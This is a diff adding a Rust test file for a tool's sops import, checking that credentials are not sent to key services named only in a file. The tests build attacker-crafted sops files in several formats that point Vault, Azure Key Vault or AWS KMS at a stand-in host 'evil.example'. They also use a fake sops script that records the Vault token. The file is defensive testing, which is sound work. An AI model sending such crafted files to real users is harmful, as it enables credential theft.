@@ -1,0 +1,170 @@
+//! Tests `sops` files that name an attacker's key service. `sops` sends the user's credentials to the
+//! key service that a file names.
+#![cfg(unix)]
+#![expect(clippy::expect_used, reason = "a test fails by panicking")]
+
+use std::fs;
+use std::os::unix::fs::PermissionsExt as _;
+use std::path::PathBuf;
+use std::process::{Command, Output, Stdio};
+
+const CERTIFICATE: &str = include_str!("../seal/fixtures/cert.pem");
+
+/// A folder with a fake `sops`, which writes the Vault token of its environment to the file `ran`.
+struct Scene(tempfile::TempDir);
+
+impl Scene {
+    fn new() -> Self {
+        let scene = Self(tempfile::tempdir().expect("a folder"));
+        let script =
+            "#!/bin/sh\necho \"$VAULT_TOKEN\" > \"$HOME/ran\"\nprintf '{\"a\": \"value\"}'\n";
+        fs::create_dir(scene.path("programs")).expect("ours");
+        fs::write(scene.path("programs/sops"), script).expect("ours");
+        let mode = fs::Permissions::from_mode(0o755);
+        fs::set_permissions(scene.path("programs/sops"), mode).expect("ours");
+        fs::write(scene.path("cert.pem"), CERTIFICATE).expect("ours");
+        scene
+    }
+
+    fn path(&self, name: &str) -> PathBuf {
+        self.0.path().join(name)
+    }
+
+    fn import(&self, file: &str, flags: &[&str], variables: &[(&str, &str)]) -> Output {
+        let programs = self.path("programs").display().to_string();
+        Command::new(env!("CARGO_BIN_EXE_seal"))
+            .args(["import", "sops", "x", file, "--cert=cert.pem", "-n=st"])
+            .args(flags)
+            .current_dir(self.0.path())
+            .env("HOME", self.0.path())
+            .env("KUBECONFIG", "/nowhere")
+            .env("PATH", format!("{programs}:/usr/bin:/bin"))
+            .env("VAULT_TOKEN", "s.victim-token")
+            .env_remove("VAULT_ADDR")
+            .envs(variables.iter().copied())
+            .stdin(Stdio::null())
+            .output()
+            .expect("it starts")
+    }
+}
+
+fn stderr(output: &Output) -> String {
+    String::from_utf8_lossy(&output.stderr).into_owned()
+}
+
+const ATTACKER_URL: &str = "http://evil.example:8200";
+
+/// Returns the name and content of a file with this Vault address, for each format that `sops` reads.
+fn sops_files(address: &str) -> [(&'static str, String); 6] {
+    let value = "ENC[AES256_GCM,data:dmFsdWU=,iv:eA==,tag:eA==,type:str]";
+    let json = format!(r#"{{"hc_vault": [{{"vault_address": "{address}"}}], "mac": "x"}}"#);
+    [
+        (
+            "x.yaml",
+            format!("a: {value}\nsops:\n  mac: x\n  hc_vault:\n  - vault_address: {address}\n"),
+        ),
+        (
+            "groups.yaml",
+            format!("a: {value}\nsops: {{mac: x, key_groups: [{json}]}}\n"),
+        ),
+        ("x.json", format!(r#"{{"a": "{value}", "sops": {json}}}"#)),
+        ("x.enc", format!(r#"{{"data": "{value}", "sops": {json}}}"#)),
+        (
+            "x.env",
+            format!("a={value}\nsops_mac=x\nsops_hc_vault__list_0__map_vault_address={address}\n"),
+        ),
+        (
+            "x.ini",
+            format!(
+                "[a]\na = {value}\n[sops]\nmac = x\nhc_vault__list_0__map_vault_address = {address}\n"
+            ),
+        ),
+    ]
+}
+
+/// Attack: an attacker sends the user a `sops` file whose metadata names the attacker's server as the Vault, to which
+/// `sops` would send the user's token.
+#[test]
+fn gives_no_token_to_an_address_that_only_the_file_names() {
+    for variables in [&[][..], &[("VAULT_ADDR", "https://vault.example:8200")]] {
+        for (name, text) in sops_files(ATTACKER_URL) {
+            let scene = Scene::new();
+            fs::write(scene.path(name), &text).expect("ours");
+            let output = scene.import(name, &[], variables);
+            let why = format!("{name} {variables:?}: {}", stderr(&output));
+            assert!(!scene.path("ran").exists(), "{why}");
+            assert_eq!(output.status.code(), Some(2), "{why}");
+            assert!(stderr(&output).contains(ATTACKER_URL), "{why}");
+        }
+    }
+}
+
+/// Attack: an attacker names their server as an Azure Key Vault, or in the region of an AWS key, to receive the user's
+/// credentials.
+#[test]
+fn refuses_key_services_at_an_attackers_address() {
+    for service in [
+        r#""azure_kv": [{"vault_url": "https://evil.example"}]"#,
+        r#""key_groups": [{"azure_kv": [{"vault_url": "https://evil.example"}]}]"#,
+        r#""kms": [{"arn": "arn:aws:kms:evil.example/:123456789012:key/a"}]"#,
+    ] {
+        let scene = Scene::new();
+        let text = format!(r#"{{"a": "b", "sops": {{"mac": "x", {service}}}}}"#);
+        fs::write(scene.path("x.json"), text).expect("ours");
+        let output = scene.import("x.json", &[], &[]);
+        assert!(
+            !scene.path("ran").exists(),
+            "{service}: {}",
+            stderr(&output)
+        );
+        assert!(
+            stderr(&output).contains("evil.example"),
+            "{service}: {}",
+            stderr(&output)
+        );
+    }
+}
+
+/// The user names the address in the environment or with a flag.
+#[test]
+fn uses_a_key_service_that_the_user_names() {
+    let address = "https://vault.example:8200";
+    for (flags, variables) in [
+        (
+            &[][..],
+            &[("VAULT_ADDR", "https://vault.example:8200/")][..],
+        ),
+        (&["--key-service=https://vault.example:8200"], &[]),
+    ] {
+        for (name, text) in sops_files(address) {
+            let scene = Scene::new();
+            fs::write(scene.path(name), &text).expect("ours");
+            let output = scene.import(name, flags, variables);
+            assert!(
+                scene.path("ran").exists(),
+                "{name} {flags:?}: {}",
+                stderr(&output)
+            );
+        }
+    }
+}
+
+#[test]
+fn refuses_a_file_that_sops_cannot_read_again() {
+    let scene = Scene::new();
+    let status = Command::new("mkfifo").arg(scene.path("pipe.yaml")).status();
+    assert!(status.expect("mkfifo starts").success());
+    std::os::unix::fs::symlink("pipe.yaml", scene.path("link.yaml")).expect("ours");
+    let absolute_path = scene.path("pipe.yaml").display().to_string();
+    for file in ["pipe.yaml", "link.yaml", &absolute_path, "/dev/null"] {
+        let output = scene.import(file, &[], &[]);
+        let stderr = stderr(&output);
+        assert_eq!(output.status.code(), Some(2), "{file}: {stderr}");
+        assert!(stderr.contains("is not a regular file"), "{file}: {stderr}");
+        assert!(
+            stderr.contains("hint: write its content to a file"),
+            "{file}: {stderr}"
+        );
+        assert!(!scene.path("ran").exists(), "{file}");
+    }
+}
